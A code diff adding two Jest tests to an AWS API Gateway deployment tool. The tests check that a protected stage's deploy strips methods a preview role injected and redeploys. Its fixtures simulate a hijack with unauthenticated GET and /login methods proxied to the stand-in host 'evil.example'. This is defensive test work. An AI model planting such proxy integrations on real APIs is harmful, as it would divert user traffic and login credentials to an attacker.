@@ -1,4 +1,5 @@
 import { afterEach, describe, expect, test } from '@jest/globals';
+import { CreateDeploymentCommand } from '@aws-sdk/client-api-gateway';
 import { ensureGateway } from '../../../src/resources/front-door/gateway.js';
 import { type GatewayInput } from '../../../src/resources/front-door/gateway-types.js';
 import { stageTags } from '../../../src/model/tags.js';
@@ -111,6 +112,83 @@ describe('rest-api', () => {
         },
       }),
     ]);
+  });
+
+  test("a protected stage's deploy removes the methods and resources a preview added, and deploys the API again", async () => {
+    const { fake, logger, run } = await setup();
+    await run();
+    const api = onlyApi(fake);
+    const resources = () => [...api.resources.values()];
+    const proxy = resources().find((r) => r.path === '/{proxy+}')!;
+    const root = resources().find((r) => r.path === '/')!;
+    const evil = { type: 'HTTP_PROXY', httpMethod: 'ANY', uri: 'https://evil.example/{proxy}' };
+    // As the preview role could: GET on the proxy (more specific than ANY: it takes every GET), a /login path of its own.
+    proxy.methods.set('GET', {
+      httpMethod: 'GET',
+      authorizationType: 'NONE',
+      apiKeyRequired: false,
+      methodIntegration: evil,
+    });
+    api.resources.set('lgn001', {
+      id: 'lgn001',
+      parentId: root.id,
+      pathPart: 'login',
+      path: '/login',
+      methods: new Map([
+        [
+          'POST',
+          { httpMethod: 'POST', authorizationType: 'NONE', apiKeyRequired: false, methodIntegration: evil },
+        ],
+      ]),
+    });
+    api.resources.set('lgn002', {
+      id: 'lgn002',
+      parentId: 'lgn001',
+      pathPart: 'x',
+      path: '/login/x',
+      methods: new Map(),
+    });
+    fake.calls.clear();
+
+    const result = await run(gatewayInput({ protectedStage: true }));
+
+    expect(resources().map((r) => [r.path, [...r.methods.keys()]])).toEqual([
+      ['/', ['ANY']],
+      ['/{proxy+}', ['ANY']],
+    ]);
+    expect(result.changed).toBe(true);
+    expect(callsOf(fake, 'CreateDeployment')).toHaveLength(1);
+    expect(logger.text('warning')).toMatch(/GET \/\{proxy\+\}.*evil\.example/);
+    expect(logger.text('warning')).toMatch(/\/login/);
+
+    // Clean now: the next protected deploy writes nothing.
+    fake.calls.clear();
+    expect((await run(gatewayInput({ protectedStage: true }))).changed).toBe(false);
+    expect(writes(fake)).toEqual([]);
+  });
+
+  test('a protected stage left on a deployment that serves more than ours (the extra methods since deleted) is deployed again', async () => {
+    const { fake, run } = await setup();
+    await run();
+    const api = onlyApi(fake);
+    const proxy = [...api.resources.values()].find((r) => r.path === '/{proxy+}')!;
+    const evil = { type: 'HTTP_PROXY', httpMethod: 'ANY', uri: 'https://evil.example/{proxy}' };
+    proxy.methods.set('GET', {
+      httpMethod: 'GET',
+      authorizationType: 'NONE',
+      apiKeyRequired: false,
+      methodIntegration: evil,
+    });
+    await fake
+      .clients()
+      .apiGateway.send(new CreateDeploymentCommand({ restApiId: api.id, stageName: 'pr-42' }));
+    proxy.methods.delete('GET');
+    fake.calls.clear();
+
+    await run(gatewayInput({ functionChanged: false }));
+    expect(callsOf(fake, 'CreateDeployment')).toHaveLength(0);
+    await run(gatewayInput({ protectedStage: true, functionChanged: false }));
+    expect(callsOf(fake, 'CreateDeployment')).toHaveLength(1);
   });
 
   test('an unchanged rerun reads five times, writes nothing and makes no deployment', async () => {
